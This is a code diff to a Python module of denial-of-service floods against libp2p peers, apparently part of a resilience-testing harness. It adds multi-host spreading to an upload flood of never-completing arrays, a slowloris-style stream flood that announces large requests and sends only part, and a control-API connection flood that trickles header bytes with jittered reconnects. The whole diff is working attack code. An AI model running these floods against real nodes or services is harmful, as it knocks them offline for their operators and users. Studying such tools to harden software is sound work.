@@ -24,7 +24,6 @@ import logging
 import os
 import random
 import struct
-import tempfile
 import time
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -333,7 +332,7 @@ class FloodCounters:
 
 
 async def upload_flood(
-    network: Libp2pNetwork,
+    networks: list[Libp2pNetwork],
     victim: str,
     *,
     uploads: int,
@@ -344,12 +343,14 @@ async def upload_flood(
     counters: FloodCounters,
 ) -> None:
     """Start ``uploads`` uploads of random, never-completing arrays of ``announced_bytes``
-    each with an empty first chunk, then grow them round-robin, ``chunk_bytes`` at a time,
-    until ``budget_bytes`` were sent in all (or every upload was refused)."""
+    each with an empty first chunk, spread over the attacker hosts ``networks``, then grow
+    them round-robin, ``chunk_bytes`` at a time, until ``budget_bytes`` were sent in all (or
+    every upload was refused)."""
     shapes = [[announced_bytes // 4] for _ in range(uploads)]
     metas = [{"hash": os.urandom(32).hex(), "dtype": "float32", "shape": shape} for shape in shapes]
     offsets: dict[int, int] = {}
     for index, meta in enumerate(metas):
+        network = networks[index % len(networks)]
         counters.started += 1
         try:
             reply = await network.request(
@@ -373,7 +374,7 @@ async def upload_flood(
                 del offsets[index]  # never complete an upload: the victim would hash it
                 continue
             try:
-                await network.request(
+                await networks[index % len(networks)].request(
                     victim,
                     PROTOCOL_UPLOAD,
                     pack({"array": metas[index], "offset": offset}, body),
@@ -392,7 +393,7 @@ async def upload_flood(
 
 
 async def stream_flood(
-    network: Libp2pNetwork,
+    networks: list[Libp2pNetwork],
     victim: str,
     *,
     streams: int,
@@ -402,17 +403,19 @@ async def stream_flood(
     protocol: str = PROTOCOL_UPLOAD,
     announced: int = MAX_MESSAGE_BYTES,
 ) -> None:
-    """Open ``streams`` streams on ``protocol``, each announcing a request of ``announced``
-    bytes and sending only ``partial_bytes`` of it; hold them open ``hold`` seconds."""
+    """Open ``streams`` streams on ``protocol`` (spread over the attacker hosts ``networks``),
+    each announcing a request of ``announced`` bytes and sending only ``partial_bytes`` of it;
+    hold them open ``hold`` seconds. A stream whose writes stall for 10 s (the victim stopped
+    reading) counts as refused."""
     body = os.urandom(min(partial_bytes, announced - 1))
     limiter = trio.CapacityLimiter(32)
     opened: list[Any] = []
 
-    async def one() -> None:
+    async def one(network: Libp2pNetwork) -> None:
         counters.started += 1
         try:
             async with limiter:
-                with trio.fail_after(30):
+                with trio.fail_after(10):
                     stream = await network._host.new_stream(
                         ID.from_base58(victim), [TProtocol(protocol)]
                     )
@@ -428,8 +431,8 @@ async def stream_flood(
             counters.refuse(f"{type(exc).__name__}: {exc}")
 
     async with trio.open_nursery() as nursery:
-        for _ in range(streams):
-            nursery.start_soon(one)
+        for index in range(streams):
+            nursery.start_soon(one, networks[index % len(networks)])
     await trio.sleep(hold)
     for stream in opened:
         with trio.move_on_after(1):
@@ -441,10 +444,24 @@ async def stream_flood(
 
 class ControlFlood:
     """Hold ``connections`` TCP connections to a control API, each sending an unfinished
-    request head; a connection the server closes is opened again."""
+    request head and one more header byte every ``trickle`` seconds.
 
-    def __init__(self, host: str, port: int, connections: int, *, trickle: float = 5.0) -> None:
+    A connection the server closes is opened again after ``reconnect`` seconds (with jitter),
+    so the flood keeps as many connections as the server lets it without turning into a
+    connect-rate flood whose CPU cost would land on the same machine as the victim's.
+    """
+
+    def __init__(
+        self,
+        host: str,
+        port: int,
+        connections: int,
+        *,
+        trickle: float = 5.0,
+        reconnect: float = 2.0,
+    ) -> None:
         self.trickle = trickle
+        self.reconnect = reconnect
         self.host = host
         self.port = port
         self.connections = connections
@@ -453,6 +470,7 @@ class ControlFlood:
         self.closed_by_server = 0
         self.connect_errors = 0
         self.peak_open = 0
+        self._started = 0.0
 
     async def _one(self, index: int) -> None:
         await trio.sleep(random.random() * 0.5)
@@ -461,7 +479,7 @@ class ControlFlood:
                 stream = await trio.open_tcp_stream(self.host, self.port)
             except OSError:
                 self.connect_errors += 1
-                await trio.sleep(0.5)
+                await trio.sleep(self.reconnect * (1 + random.random()))
                 continue
             self.opened += 1
             self.open_now += 1
@@ -480,24 +498,25 @@ class ControlFlood:
                 self.open_now -= 1
                 with trio.CancelScope(shield=True):
                     await stream.aclose()
+            await trio.sleep(self.reconnect * (1 + random.random()))
 
     async def run(self) -> None:
         """Flood until cancelled."""
+        self._started = trio.current_time()
         async with trio.open_nursery() as nursery:
             for index in range(self.connections):
                 nursery.start_soon(self._one, index)
 
-    def counters(self) -> dict[str, int]:
+    def counters(self) -> dict[str, Any]:
         """What the flood did."""
+        elapsed = max(1e-9, trio.current_time() - self._started)
         return {
             "connections_wanted": self.connections,
             "peak_open": self.peak_open,
             "opened": self.opened,
+            "opened_per_s": round(self.opened / elapsed, 1),
             "closed_by_server": self.closed_by_server,
             "connect_errors": self.connect_errors,
+            "trickle_s": self.trickle,
+            "reconnect_after_s": f"{self.reconnect}-{2 * self.reconnect} (random)",
         }
-
-
-def scratch_dir(prefix: str) -> Path:
-    """A temporary directory for an attacker's files."""
-    return Path(tempfile.mkdtemp(prefix=prefix))
